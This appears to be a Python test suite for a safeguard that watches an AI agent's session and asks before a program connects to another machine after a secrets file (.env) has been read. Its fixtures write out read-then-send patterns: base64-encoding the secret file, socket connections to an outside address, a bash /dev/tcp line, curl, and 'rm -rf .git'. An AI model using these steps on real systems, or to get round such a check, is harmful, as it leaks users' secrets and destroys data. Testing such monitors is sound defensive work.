"""What a program read and another sends: in a session whose programs have read a file of secrets, an unknown program's
connection to another machine is asked about.
"""

from __future__ import annotations

import sys
import time

import pexpect
import pytest

READ = "import base64; open('copy', 'wb').write(base64.b64encode(open(open('name.txt').read(), 'rb').read()))"
"""No analysis knows the file's name before it runs."""
SEND = """
import socket, sys
for _ in range(2):
    with socket.socket() as link:
        link.settimeout(0.2)
        try: link.connect((sys.argv[1], 9))
        except OSError as e: print(type(e).__name__)
"""
FAR, NEAR = "203.0.113.7", "127.0.0.1"
"""An address of nobody's (RFC 5737), and this machine's."""


@pytest.fixture
def stage_with_programs(held):
    held.write("name.txt", ".env")
    held.write("read.py", READ)
    held.write("send.py", SEND)
    return held


def python(words):
    return f"{sys.executable} {words}"


CASES = (
    ((python("read.py"), python(f"send.py {FAR}")), True, "two programs, one after the other"),
    ((python("read.py") + "; " + python(f"send.py {FAR}"),), True, "both in one call"),
    ((python("read.py"), python("send.py ::ffff:203.0.113.7").replace("send.py", "six.py")), True, "IPv4 in IPv6"),
    ((python("read.py"), f"bash -c 'exec 3<>/dev/tcp/{FAR}/9' || echo PermissionError"), True, "a shell"),
    ((python("read.py"), python(f"send.py {NEAR}")), False, "to this machine"),
    ((python(f"send.py {FAR}"),), False, "nothing was read"),
    (("grep -q MODE .env", python(f"send.py {FAR}")), False, "read by a command that says so"),
    ((python("read.py"), f"curl -s -m 0.2 http://{FAR}:9/"), False, "a command that was judged"),
)


@pytest.mark.parametrize(("tasks", "refused"), [row[:2] for row in CASES], ids=[row[2] for row in CASES])
def test_where_nobody_can_be_asked(stage_with_programs, tasks, refused):
    stage_with_programs.write("six.py", SEND.replace("socket.socket()", "socket.socket(socket.AF_INET6)"))
    _, seen = stage_with_programs.agent(*tasks)
    assert ("CONNECT_AFTER_READING" in seen[-1]["err"] or "PermissionError" in seen[-1]["out"]) is refused, seen
    reads = [e["data"] for e in stage_with_programs.log(kind="watch") if e["data"]["check"] == "read"]
    assert [data["path"] for data in reads] == [str(stage_with_programs.repo / ".env")] * ("read.py" in tasks[0])


def test_what_a_killed_session_read_is_on_record(stage_with_programs):
    done = stage_with_programs.sentinel("run", "--", *stage_with_programs.tasks(python("read.py"), "rm -rf .git"))
    assert done.returncode == 137, done
    entries = stage_with_programs.log()
    kinds = [e["data"].get("check") if e["kind"] == "watch" else e["kind"] for e in entries]
    assert "recovery" in kinds and kinds.count("read") == 1, kinds


def test_a_yes_is_for_the_program(stage_with_programs):
    child = stage_with_programs.on_terminal(python("read.py"), python(f"send.py {FAR}"))
    child.expect("Action: CONNECT_AFTER_READING")
    time.sleep(0.4)  # a key that comes sooner was meant for something else
    child.send("y")
    child.expect(pexpect.EOF)
    assert "PermissionError" not in stage_with_programs.seen()[-1]["out"]
    assert [e["data"]["authorized_by"] for e in stage_with_programs.log(kind="human")] == ["user"]


def test_the_persons_policy_may_say_that_nobody_is_asked(stage_with_programs):
    stage_with_programs.policy('[kernel]\nmode = "require"\nafter_reading = "off"\n')
    _, seen = stage_with_programs.agent(python("read.py"), python(f"send.py {FAR}"))
    assert "PermissionError" not in seen[-1]["out"]
